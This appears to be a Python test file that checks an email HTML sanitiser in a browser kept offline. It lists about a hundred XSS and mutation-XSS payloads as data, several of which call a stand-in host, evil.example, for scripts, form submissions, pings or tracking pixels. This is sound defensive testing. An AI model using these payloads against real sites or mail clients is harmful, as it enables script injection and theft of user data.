"""A writer's HTML in a real browser: whatever he tries, a mail runs nothing and fetches nothing.

Each vector is shown twice: as it is, to see that the browser of this test would notice, and sanitised, as it goes into
a mail. Web mail parses what it shows more than once, so the sanitised page is parsed again from its own words.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from helpers.browser import started_browser
from playwright.sync_api import Browser, Dialog, Error, Request, Route

from operators.mail_html import mail_html, sanitised

WORDS = {"footer": "You receive this.", "unsubscribe": "Unsubscribe"}
EVIL = "https://evil.example"
PLAIN = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    f"<script src={EVIL}/x.js></script>",
    f'<script type=module src="{EVIL}/m.js"></script>',
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='&#97;lert(1)'>",
    "<img src=x onerror=alert`1`>",
    f"<img src={EVIL}/pixel.gif>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    "<img src=//evil.example/p.gif>",
    f"<picture><source srcset={EVIL}/s.png><img></picture>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><image href={EVIL}/i.png /></svg>",
    f"<svg><use href='{EVIL}/u.svg#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x></svg>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<object data={EVIL}/o.html></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src={EVIL}/e.html>",
    f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<link rel=icon href={EVIL}/favicon.ico>",
    f"<style>@import '{EVIL}/i.css';</style>",
    f"<style>body{{background:url({EVIL}/b.png)}}</style>",
    f"<p style='background:url({EVIL}/s.png)'>x</p>",
    f"<p style='background-image:\\75rl({EVIL}/t.png)'>x</p>",
    f"<p style='list-style-image:url({EVIL}/li.png);display:list-item'>x</p>",
    f'<p style="border-image:url({EVIL}/bi.png) 1;border:1px solid;color:red">x</p>',
    f"<p style='content:url({EVIL}/c.png)'>x</p>",
    f"<p style='background-color:red;background:/**/url({EVIL}/d.png)'>x</p>",
    f"<table background={EVIL}/tb.png><tr><td background={EVIL}/td.png>x</table>",
    f"<video poster={EVIL}/v.png></video>",
    f"<video src={EVIL}/v.mp4 autoplay></video>",
    "<video><source onerror=alert(1)></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    "<audio src=x onerror=alert(1)></audio>",
    f"<input type=image src={EVIL}/in.png>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b tabindex=1 autofocus onfocus=alert(1)>x</b>",
    "<div style='animation-name:x' onanimationstart=alert(1)>x</div><style>@keyframes x{}</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    f"<base href={EVIL}/><img src=relative.png>",
    f"<form action={EVIL}/f><button>x</button></form><script>document.forms[0].submit()</script>",
    "<a href=javascript:alert(1) id=go>x</a><script>go.click()</script>",
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a href='x' title='\"><img src=x onerror=alert(1)>'>x</a><img src=x onerror=alert(1)>",
    f"<dialog open><img src={EVIL}/g.png></dialog>",
    f"<portal src={EVIL}/po></portal><embed src={EVIL}/po>",
    "<x onclick=alert(1) id=xx>x</x><script>xx.click()</script>",
    "<isindex type=image src=1 onerror=alert(1)><img src=1 onerror=alert(1)>",
    f"<q cite={EVIL}/q><img src={EVIL}/q.png></q>",
    "<img src=x \x00onerror=alert(1)><img src=x onerror\x0c=alert(1)>",
    "<img src=x:x onerror='alert(1)'\x0d>",
    f"<a ping={EVIL}/ping href={EVIL}/y id=pinged>x</a><script>pinged.click()</script>",
)
MUTATING = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><g title="</style><img src onerror=alert(1)>"></p></svg>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<math><mi><table><mglyph><style><math href="</style><img src=x onerror=alert(1)>">',
    "<table><caption><svg><desc><table><caption><style><img src=x onerror=alert(1)></style></caption></table>",
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    '<p title="`onmouseover=alert(1)"><img src=x onerror=alert(1)></p>',
    "<svg><foreignObject><p><![CDATA[</p><img src=x onerror=alert(1)>]]></foreignObject></svg>",
    '<a href="https://a.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a><img src=x onerror=alert(1)>',
    "<div><table><svg><foreignObject><select><table><s><script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;<p title='&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p>",
)  # fmt: skip
CORPUS = PLAIN + MUTATING
SERVED = "https://mail.example/"


@dataclass
class Seen:
    """What a page did beyond showing words."""

    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def __bool__(self) -> bool:
        return bool(self.dialogs or self.requests)


class Reader:
    """One tab. Nothing goes to any network: the mail is answered here, and the rest is noted and refused."""

    def __init__(self, browser: Browser) -> None:
        self.page, self._seen, self._html = browser.new_page(), Seen(), ""
        self.page.route("**/*", self._answer)
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)

    def looks_at(self, html: str, *, again: bool) -> Seen:
        self._seen, self._html = Seen(), html
        self.page.goto(SERVED, wait_until="load")
        for _ in range(2 if again else 0):
            self.page.evaluate("document.body.innerHTML = document.body.innerHTML")
        self.page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done, 20)))")  # events are late
        return self._seen

    def _dialog(self, dialog: Dialog) -> None:
        self._seen.dialogs.append(dialog.message)
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if request.url != SERVED:
            self._seen.requests.append(request.url)

    def _answer(self, route: Route) -> None:
        if route.request.url == SERVED:
            route.fulfill(body=self._html.encode("utf-8", "replace"), content_type="text/html; charset=utf-8")
        else:
            route.abort()


@pytest.fixture
def reader() -> Iterator[Reader]:
    with started_browser() as browser:
        yield Reader(browser)


def in_mail(html: str) -> str:
    return mail_html(sanitised(html), WORDS, f"{SERVED}unsubscribe", "en")


def test_no_vector_runs_or_fetches_anything(reader: Reader) -> None:
    assert len(set(CORPUS)) == len(CORPUS) > 80
    assert [vector for vector in CORPUS if reader.looks_at(in_mail(vector), again=True)] == []


def test_this_browser_notices_what_is_not_sanitised(reader: Reader) -> None:
    def harms(vector: str) -> bool:
        try:
            return bool(reader.looks_at(f"<!DOCTYPE html><body>{vector}", again=False))
        except Error as error:  # it left the page, or asked to
            return "navigat" in str(error) or "destroyed" in str(error)

    silent = [vector for vector in CORPUS if not harms(vector)]
    assert len(silent) <= len(CORPUS) // 4, silent


@pytest.mark.parametrize("vector", CORPUS)
def test_what_is_sanitised_stays_as_it_is(vector: str) -> None:
    once = sanitised(f"<p>before</p>{vector}")
    assert sanitised(once) == once
    assert sanitised(once + once) == once + once
    assert "before" in once


def test_links_of_a_mail_lead_to_web_pages_and_mailboxes_alone(reader: Reader) -> None:
    schemes = "https: mailto: http: ftp: sms: tel: magnet: ssh: vbscript: data: // /".split()
    written = "".join(f'<a href="{scheme}x.example">{scheme}</a>' for scheme in schemes)
    odd = (" java\tscript:alert(1)", "&#1;javascript:alert(1)", "JaVaScRiPt:alert(1)")
    reader.looks_at(in_mail(written + "".join(f"<a href='{each}'>x</a>" for each in odd)), again=True)
    links = reader.page.eval_on_selector_all("a[href]", "all => all.map(each => [each.protocol, each.rel])")
    ours, rel = ["https:", ""], "noopener noreferrer"
    assert sorted(links) == [ours, ["https:", rel], ["mailto:", rel]]
